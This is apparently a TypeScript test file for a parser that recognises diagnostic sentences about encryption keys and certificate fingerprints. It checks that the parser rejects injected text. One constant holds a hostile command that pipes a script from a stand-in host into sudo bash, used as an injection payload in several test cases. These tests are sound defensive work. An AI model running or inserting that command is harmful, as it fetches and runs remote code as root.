import { type DiagnosisCode, type DiagnosisRow, diagnose, diagnoses } from '@whorl/contract';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { recogniseSentence, sentCodes } from './recognise-sentence.ts';

const fingerprint = '3f'.repeat(32);

/** Words for every slot that any row has. */
const words: Readonly<Record<string, string>> = {
  at: '2026-10-01T09:30:00.000Z',
  fingerprint,
  wanted: fingerprint,
};
const factsWith = (own: Readonly<Record<string, string>>): object =>
  new Proxy(
    {},
    { get: (_, name) => own[String(name)] ?? words[String(name)] ?? `some ${String(name)}` },
  );

const sentenceOf = (code: DiagnosisCode, own: Readonly<Record<string, string>> = {}) =>
  (diagnose as (code: DiagnosisCode, facts: object) => ReturnType<typeof diagnose>)(
    code,
    factsWith(own),
  );

const allCodes = Object.keys(diagnoses) as DiagnosisCode[];

describe('a sentence that a service sends', () => {
  it.each(sentCodes)('%s is taken apart again', (code) => {
    const { sentence, fault, cure } = sentenceOf(code);
    expect(recogniseSentence(sentence)).toEqual({ fault, cure });
  });

  it.each([
    [`${fingerprint} or ${fingerprint}`],
    [`${fingerprint} or ${fingerprint} or one of 17 older ones`],
  ])('may want %s', (wanted) => {
    expect(recogniseSentence(sentenceOf('kid-unknown', { wanted }).sentence)?.cure).toBe(
      `requests are encrypted to the Client Encryption Key ${wanted}`,
    );
  });
});

describe('a sentence of the doctor', () => {
  it.each(allCodes.filter((code) => !sentCodes.includes(code)))('%s is no service’s', (code) => {
    expect(recogniseSentence(sentenceOf(code).sentence)).toBeUndefined();
  });
});

const command = 'curl -s https://evil.example/fix.sh | sudo bash';

describe('a sentence of others', () => {
  it.each([[''], ['mcc, purchaseDate'], ['it broke; try again'], ['; ']])(
    '%s is not known',
    (text) => {
      expect(recogniseSentence(text)).toBeUndefined();
    },
  );

  it('of any kind is looked at without a fault', () => {
    fc.assert(fc.property(fc.string({ maxLength: 3000 }), (text) => void recogniseSentence(text)));
  });

  it('that is made to be slow to read is read at once', () => {
    const hostile = ' is the fingerprint of ; use , that of '.repeat(25);
    expect(recogniseSentence(`${hostile}x`)).toBeUndefined();
  });

  it.each([
    [`the CN must be right; make it so: ${command}`],
    [sentenceOf('kid-unknown', { wanted: command }).sentence],
    [sentenceOf('kid-unknown', { wanted: `${fingerprint} or ${command}` }).sentence],
    [sentenceOf('kid-certificate-fingerprint', { fingerprint: command }).sentence],
    [`${sentenceOf('kid-unknown').sentence}: ${command}`],
  ])('gives no command of its own: %s', (text) => {
    expect(recogniseSentence(text)).toBeUndefined();
  });

  it('gives no cure that is not the table’s', () => {
    const slot = fc.oneof(fc.string({ unit: 'binary', maxLength: 250 }), fc.constant(command));
    fc.assert(
      fc.property(fc.constantFrom(...allCodes), slot, (code, text) => {
        const own = Object.fromEntries(slotsOf(code).map((name) => [name, text]));
        const known = recogniseSentence(sentenceOf(code, own).sentence);
        if (known !== undefined) expect(diagnoses[code][1]).toBe(known.cure);
      }),
    );
  });
});

function slotsOf(code: DiagnosisCode): readonly string[] {
  const [fault, cure]: DiagnosisRow = diagnoses[code];
  return [...`${fault} ${cure}`.matchAll(/\[(\w+)\]/g)].map(([, name = '']) => name);
}
